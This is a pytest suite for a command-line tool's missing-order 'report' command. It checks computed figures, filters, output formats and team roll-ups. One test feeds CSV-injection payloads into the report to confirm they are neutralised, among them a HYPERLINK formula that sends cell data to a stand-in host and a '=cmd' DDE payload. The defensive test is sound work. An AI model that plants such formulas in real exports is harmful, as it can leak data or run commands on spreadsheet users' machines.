"""`mocli report`: figures checked against hand-computed expectations, filters, formats, roll-ups."""

from __future__ import annotations

import csv
import io
import json

import pytest

from mocli import reporting
from test_cases_support import NOW, add_note, store, team_set


@pytest.fixture
def team(cfg):
    cases = team_set(cfg)
    store(list(cases.values()))
    return cases


def report(cli, *args: str) -> dict:
    r = cli("report", "--format", "json", "--include-pii", *args)
    assert r.code == 0, r.err
    return json.loads(r.out)


def test_figures_by_hand(cli, team):
    # Worked out from team_set: A..G, see tests/test_cases_support.py.
    ava = team["A"]["customer"]["id"]
    r = report(cli)
    assert r["total"] == 7 and r["open"] == 4 and r["resolved"] == 3
    assert r["by_tier"] == {"Standard": 3, "VIP": 2, "B2B": 1, "New Customer": 1}
    assert r["by_action"] == {"refund_or_replacement": 3, "carrier_investigation": 2, "awaiting_delivery": 1,
                              "fraud_review": 1}
    assert r["by_outcome"] == {"lost": 2, "found": 1}
    assert r["by_remedy"] == {"redeliver": 1, "refund": 1, "reship": 1}
    assert r["by_carrier"] == {"UPS": 4, "DHL": 1, "FedEx": 1, "USPS": 1}
    assert r["carriers"]["UPS"] == {"cases": 4, "claims": 4, "found": 0, "lost": 2, "claim_rate": 1.0,
                                    "lost_rate": 1.0}
    assert r["carriers"]["FedEx"] == {"cases": 1, "claims": 1, "found": 1, "lost": 0, "claim_rate": 1.0,
                                      "lost_rate": 0.0}
    assert r["carriers"]["USPS"]["claim_rate"] == 0.0 and r["carriers"]["USPS"]["lost_rate"] is None
    # resolved after 24 h (A), 72 h (B), 12 h (E): median 24, nearest-rank 90th percentile 72
    assert r["time_to_resolution_hours"] == {"count": 3, "median": 24.0, "p90": 72.0}
    assert r["overdue_follow_ups"] == 2  # C and F
    assert r["sla_by_tier"] == {
        "Standard": {"cases": 3, "settled": 2, "breached": 2, "breach_rate": 1.0},  # B late, C overdue; D not due
        "VIP": {"cases": 2, "settled": 1, "breached": 0, "breach_rate": 0.0},  # A in time; G not due
        "B2B": {"cases": 1, "settled": 1, "breached": 1, "breach_rate": 1.0},  # F overdue
        "New Customer": {"cases": 1, "settled": 1, "breached": 0, "breach_rate": 0.0},  # E in time
    }
    assert r["refunds"] == {"count": 1, "total": {"USD": 389.0}}
    assert r["reshipments"] == {"count": 1, "value": {"USD": 1249.0}}
    assert r["fraud_reviews"] == {"opened": 1, "signals": {"high_value_new_customer": 1}}
    assert r["repeat_claimants"]["customers"] == [
        {"customer": ava, "email": "ava.thompson@example.com", "claims": 2,
         "cases": ["MO-000000-A0000", "MO-000000-G0000"]}]
    [address] = r["repeat_claimants"]["addresses"]
    assert address["customers"] == 2 and address["claims"] == 3  # A, G (Ava) and B (Ben) at one address
    assert r["by_agent"] == {
        "amy": {"opened": 4, "open": 2, "resolved": 2, "overdue": 1},
        "bob": {"opened": 2, "open": 1, "resolved": 1, "overdue": 0},
        "carl": {"opened": 1, "open": 1, "resolved": 0, "overdue": 1},
    }


@pytest.mark.parametrize("args,total", [
    (["--since", "7d"], 5),  # not C (10 days) nor E (40 days)
    (["--since", "2026-11-25"], 4),  # A (25th 10:00), D, F, G
    (["--until", "2026-11-20"], 2),  # C (17th) and E (18 Oct)
    (["--since", "30d", "--until", "2026-11-24"], 2),  # B (24th 10:00) and C
    (["--tier", "VIP"], 2),
    (["--tier", "new customer"], 1),
    (["--agent", "bob"], 2),
    (["--carrier", "ups"], 4),
    (["--carrier", "UPS", "--agent", "amy", "--since", "7d"], 2),  # A and G
])
def test_filters(cli, team, args, total):
    assert report(cli, *args)["total"] == total


def test_filters_are_echoed(cli, team):
    r = report(cli, "--since", "7d", "--tier", "VIP")
    assert r["period"]["since"] == "2026-11-20T10:00:00-05:00" and r["period"]["until"] is None
    assert r["filters"] == {"tier": "VIP"}


def test_bad_period_is_a_usage_error(cli, team):
    r = cli("report", "--since", "last tuesday")
    assert r.code == 2 and "--since" in r.err
    assert cli("report", "--since", "2026-11-20", "--until", "2026-11-01").code == 2
    assert cli("report", "--format", "xml").code == 2


def test_empty_store(cli):
    import gc

    r = report(cli)
    assert gc.isenabled()  # paused only while the report is computed
    assert r["total"] == 0 and r["by_tier"] == {} and r["overdue_follow_ups"] == 0
    assert r["time_to_resolution_hours"] == {"count": 0, "median": None, "p90": None}
    table = cli("report")
    assert table.code == 0 and "No cases in this period" in table.out
    rows = list(csv.reader(io.StringIO(cli("report", "--format", "csv").out)))
    assert rows[0] == ["section", "key", "measure", "value"] and ["summary", "cases", "total", "0"] in rows
    assert "| Cases opened | 0 |" in cli("report", "--format", "markdown").out


def test_formats(cli, team):
    rows = list(csv.reader(io.StringIO(cli("report", "-f", "csv").out)))
    assert ["summary", "cases", "total", "7"] in rows
    assert ["by_tier", "Standard", "cases", "3"] in rows
    assert ["carriers", "UPS", "lost_rate", "1.0"] in rows
    assert ["sla_by_tier", "B2B", "breach_rate", "1.0"] in rows
    assert ["refunds", "USD", "total", "389.0"] in rows
    md = cli("report", "--format", "markdown").out
    assert md.startswith("# Missing-order report")
    assert "| Cases opened | 7 |" in md and "| UPS | 4 | 4 | 100.0% | 0 | 2 | 100.0% |" in md
    table = cli("report")
    assert table.code == 0
    for text in ("Cases opened", "By tier", "Carriers", "SLA by tier", "Agents", "Repeat claimants", "█"):
        assert text in table.out, text


def test_team_rollup_counts_a_case_once(cli, cfg, tmp_path):
    cases = team_set(cfg)
    team = tmp_path / "team"
    team.mkdir()
    store([cases[k] for k in "ABCD"], team / "amy.db")
    # Carl's file holds a copy of C with a later note: the copy with more history wins, counted once.
    store([add_note(cases["C"], "called the carrier"), cases["E"], cases["F"], cases["G"]], team / "carl.db")
    r = report(cli, "--db", str(team / "amy.db"), "--db", str(team / "carl.db"))
    assert r["total"] == 7 and len(r["sources"]) == 2
    assert report(cli, "--db", str(team))["total"] == 7  # a folder: every *.db in it
    assert report(cli, "--db", str(team), "--db", str(team / "amy.db"))["total"] == 7  # each file once
    merged = reporting.merge([[cases["C"]], [add_note(cases["C"], "x")]])
    assert len(merged) == 1 and len(merged[0]["history"]) == 2


def test_missing_db_is_not_found(cli, tmp_path):
    r = cli("report", "--db", str(tmp_path / "nope.db"))
    assert r.code == 1 and "no such file or folder" in r.err
    (tmp_path / "empty").mkdir()
    assert cli("report", "--db", str(tmp_path / "empty")).code == 1


def test_report_sees_cases_added_and_resolved_after_the_cache(cli, cfg, team):
    first = report(cli)
    assert first["resolved"] == 3
    assert cli("resolve", "MO-000000-G0000", "--no-input", "--outcome", "lost", "--remedy", "reship").code == 0
    store([team_set(cfg)["D"] | {"id": "MO-000000-H0000"}])
    second = report(cli)
    assert second["total"] == 8 and second["resolved"] == 4 and second["by_remedy"]["reship"] == 2


def test_figures_on_full_and_summary_dicts_agree(cfg):
    cases = list(team_set(cfg).values())
    full = reporting.figures(cases, NOW)
    slim = reporting.figures([reporting.summary(c) for c in cases], NOW)
    assert full == slim


@pytest.mark.parametrize("values,median,p90", [
    ([5.0], 5.0, 5.0),
    ([1.0, 2.0], 1.5, 2.0),
    ([float(n) for n in range(1, 11)], 5.5, 9.0),
    ([float(n) for n in range(1, 21)], 10.5, 18.0),
])
def test_percentiles(values, median, p90):
    assert reporting.median(values) == median
    assert reporting.percentile(values, 90) == p90


@pytest.mark.parametrize("text,end,expected", [
    ("7d", False, "2026-11-20T10:00:00-05:00"),
    ("12h", False, "2026-11-26T22:00:00-05:00"),
    ("2w", False, "2026-11-13T10:00:00-05:00"),
    ("today", False, "2026-11-27T00:00:00-05:00"),
    ("2026-11-01", False, "2026-11-01T00:00:00-05:00"),
    ("2026-11-01", True, "2026-11-02T00:00:00-05:00"),
    ("2026-11-01T08:30:00+00:00", True, "2026-11-01T08:30:00+00:00"),
])
def test_parse_when(text, end, expected):
    assert reporting.parse_when(text, NOW, flag="--since", end=end).isoformat() == expected


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(cli, cfg):
    # OWASP "CSV Injection": a text cell starting with = + - @ tab or CR gets a leading apostrophe.
    cases = team_set(cfg)
    hostile = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
               "\r=1+1", "amy"]
    for case, agent in zip(cases.values(), hostile, strict=True):
        case["agent"] = agent
    cases["B"]["order"]["address"]["line1"] = "=cmd|' /C calc'!A0"  # a CRM address, shown with --include-pii
    cases["A"]["order"]["address"]["line1"] = "=cmd|' /C calc'!A0"
    store(list(cases.values()))
    for args in ((), ("--include-pii",)):
        rows = list(csv.reader(io.StringIO(cli("report", "--format", "csv", *args).out)))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], [c for c in cells if c[:1] in "=+-@"]
        agents = {row[1] for row in rows if row[0] == "by_agent"}
        assert {"'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)",
                "amy"} <= agents
    assert any(c.startswith("'=cmd|") for c in cells)  # the address, kept readable, made inert


def test_a_rollup_reports_two_cases_sharing_an_id_instead_of_merging_them(cli, cfg, tmp_path):
    cases = team_set(cfg)
    team = tmp_path / "team"
    team.mkdir()
    clash = dict(cases["D"], id=cases["A"]["id"])  # another customer's case that drew the same id
    store([cases["A"], cases["B"]], team / "amy.db")
    store([clash, add_note(cases["B"], "copied file, later note")], team / "bob.db")
    r = cli("report", "--format", "json", "--include-pii", "--db", str(team))
    assert r.code == 0, r.err
    figures = json.loads(r.out)
    assert figures["total"] == 3  # A and its clash both counted; B (a copy) once
    assert figures["duplicate_ids"] == [cases["A"]["id"]]
    assert cases["A"]["id"] in r.err and "warning" in r.err and r.err.count("\n") == 1


def test_top_names_the_biggest_repeat_claimants_and_most_late_follow_ups_with_totals(cli, team):
    # team_set: one repeat claimant (Ava: A, G), one shared address, two overdue follow-ups (C, F).
    full = report(cli)
    r = report(cli, "--top", "1")
    assert r["overdue_cases"] == full["overdue_cases"][:1] and r["overdue_follow_ups"] == 2
    assert r["repeat_claimants"]["customers_total"] == 1 and r["repeat_claimants"]["addresses_total"] == 1
    assert report(cli, "--top", "0")["overdue_cases"] == full["overdue_cases"]  # 0: every one
    table = cli("report", "--top", "1", "--no-pager")
    assert table.code == 0, table.err
    assert "1 more" in table.out and "--top 0" in table.out  # the table says what the cap leaves out
    rows = list(csv.reader(io.StringIO(cli("report", "--format", "csv", "--top", "1").out)))
    assert ["repeat_claimants", "all", "customers", "1"] in rows
    assert [row[1] for row in rows if row[0] == "overdue_cases"] == [full["overdue_cases"][0]["id"]]


def test_top_must_be_a_count(cli, team):
    r = cli("report", "--top", "-1")
    assert r.code == 2 and "--top" in r.err and "Traceback" not in r.err
